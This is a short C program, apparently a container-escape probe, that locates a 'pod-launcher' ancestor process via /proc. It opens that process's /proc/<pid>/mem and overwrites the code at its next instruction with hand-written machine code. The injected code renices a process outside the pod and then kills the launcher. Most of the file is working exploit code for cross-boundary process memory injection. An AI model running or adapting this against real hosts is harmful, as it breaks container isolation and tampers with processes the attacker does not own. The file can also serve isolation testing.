// Run with the number of a process outside. Writes code over that of the pod's launcher, of which it is a child's child,
// where the kernel lets it: the launcher is to change the process when it is next asked for something.
#include "check.h"
#include <dirent.h>
#include <fcntl.h>

static int read_file(pid_t process, const char *name, char *text, size_t size) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/%s", process, name);
  int file = open(path, O_RDONLY);
  ssize_t count = file < 0 ? -1 : read(file, text, size - 1);
  close(file);
  text[count < 0 ? 0 : count] = 0;
  return count > 0;
}

static pid_t parent(pid_t process) {
  char status[4096];
  char *line = read_file(process, "status", status, sizeof status) ? strstr(status, "PPid:") : NULL;
  return line ? atoi(line + 5) : -1;
}

int main(int count, char **arguments) {
  CHECK_EQUAL(count, 2);
  int victim = atoi(arguments[1]);
  char self[32] = {0};
  CHECK(readlink("/proc/self", self, sizeof self - 1) > 0);
  pid_t init = parent(atoi(self)), launcher = 0;
  DIR *processes = opendir("/proc");
  for (struct dirent *entry; !launcher && (entry = readdir(processes));) {
    char name[64];
    pid_t process = atoi(entry->d_name);
    if (process > 0 && parent(process) == init &&
        read_file(process, "comm", name, sizeof name) && strncmp(name, "pod-launcher", 12) == 0)
      launcher = process;
  }
  CHECK(launcher > 0);

  char text[256], path[64];
  snprintf(path, sizeof path, "/proc/%d/mem", launcher);
  int memory = open(path, O_RDWR);
  if (memory < 0 || !read_file(launcher, "syscall", text, sizeof text)) {
    printf("out of reach\n");
    return 0;
  }
  unsigned long next = strtoul(strrchr(text, ' '), NULL, 16);
  unsigned char code[] = {
      0xb8, SYS_setpriority, 0, 0, 0,                               // mov $setpriority, %eax
      0x31, 0xff,                                                   // xor %edi, %edi
      0xbe, victim, victim >> 8, victim >> 16, 0,                   // mov $victim, %esi
      0xba, 9, 0, 0, 0,                                             // mov $9, %edx
      0x0f, 0x05,                                                   // syscall
      0xb8, SYS_exit_group, 0, 0, 0, 0x31, 0xff, 0x0f, 0x05,        // exit_group(0)
  };
  CHECK(pwrite(memory, code, sizeof code, (off_t)next) == sizeof code);
  printf("written\n");
  return 0;
}
